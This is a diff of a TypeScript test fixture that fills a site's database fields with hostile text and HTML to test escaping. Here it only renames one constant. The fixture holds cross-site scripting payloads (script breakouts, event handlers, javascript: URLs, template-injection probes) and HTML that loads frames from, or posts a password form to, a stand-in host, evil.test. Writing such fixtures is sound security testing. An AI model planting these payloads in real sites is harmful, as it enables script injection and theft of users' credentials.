@@ -3,19 +3,21 @@ import type { Stored, Table } from '../db/table';
 
 const SCRIPT = '</script></title></textarea><script>alert("script")</script>';
 const HANDLER = `"'><img src=x onerror=alert("handler")>\u2028<svg/onload=alert("svg")>`;
-const ADDRESS = "javascript:alert('address')";
+const SCRIPT_URL = "javascript:alert('url')";
 const LONG_WORD = 'Pneumono'.repeat(15);
 const OTHER_DIRECTION = 'שלום \u202eمرحبا\u202c عالم';
 const UNSEEN = 'zero\u200bwidth\u200djoined\ufeff\u2060';
 
 /** Known attack strings in one line of text. */
-export const HOSTILE_TEXT = [SCRIPT, HANDLER, ADDRESS, '${7*7}{{7*7}}', LONG_WORD, OTHER_DIRECTION, UNSEEN].join(' ');
+export const HOSTILE_TEXT = [SCRIPT, HANDLER, SCRIPT_URL, '${7*7}{{7*7}}', LONG_WORD, OTHER_DIRECTION, UNSEEN].join(
+  ' ',
+);
 
 /** The same for fields that allow HTML: bold text is allowed, the rest must have no effect. */
 export const HOSTILE_HTML = [
   '<p onclick="alert(1)" style="position:fixed;inset:0">Kept <b>words</b></p>',
   '<script>alert("html")</script><style>*{display:none}</style>',
-  `<a href="${ADDRESS}">code</a><a href="JaVaScRiPt&colon;alert(2)">code</a><a href="data:text/html,x">data</a>`,
+  `<a href="${SCRIPT_URL}">code</a><a href="JaVaScRiPt&colon;alert(2)">code</a><a href="data:text/html,x">data</a>`,
   '<img src="x" onerror="alert(3)"><svg onload="alert(4)"></svg>',
   '<iframe src="//evil.test" srcdoc="<script>alert(6)</script>"></iframe><object data="//evil.test"></object><base href="//evil.test">',
   '<form action="//evil.test"><input name="password"><button formaction="javascript:alert(7)">Send</button></form>',
@@ -30,7 +32,13 @@ export const HOSTILE_HTML = [
 export function makeHostile(store: Store): void {
   const text = HOSTILE_TEXT;
   store.atomically(() => {
-    const elsewhere = { facebook: ADDRESS, twitter: text, google: ADDRESS, instagram: ADDRESS, linkedin: text };
+    const elsewhere = {
+      facebook: SCRIPT_URL,
+      twitter: text,
+      google: SCRIPT_URL,
+      instagram: SCRIPT_URL,
+      linkedin: text,
+    };
     rewrite(store.performers, () => ({
       name: text,
       firstName: text,
@@ -49,8 +57,8 @@ export function makeHostile(store: Store): void {
     rewrite(store.stories, () => ({ title: text, text }));
     rewrite(store.events, () => ({ title: text, description: text }));
     rewrite(store.comments, () => ({ content: text }));
-    rewrite(store.menus, () => ({ title: text, path: ADDRESS, internal: false }));
-    rewrite(store.banners, () => ({ title: text, description: text, link: ADDRESS }));
+    rewrite(store.menus, () => ({ title: text, path: SCRIPT_URL, internal: false }));
+    rewrite(store.banners, () => ({ title: text, description: text, link: SCRIPT_URL }));
     const hostileText = [
       'siteName',
       'homeTitle',
@@ -67,7 +75,7 @@ export function makeHostile(store: Store): void {
     for (const key of ['footerContent', 'userBenefit', 'modelBenefit'])
       store.settings.update(key, { value: HOSTILE_HTML });
     for (const key of ['logoUrl', 'favicon', 'loginPlaceholderImage', 'ageGateLeaveUrl'])
-      store.settings.update(key, { value: ADDRESS });
+      store.settings.update(key, { value: SCRIPT_URL });
   });
 }
 
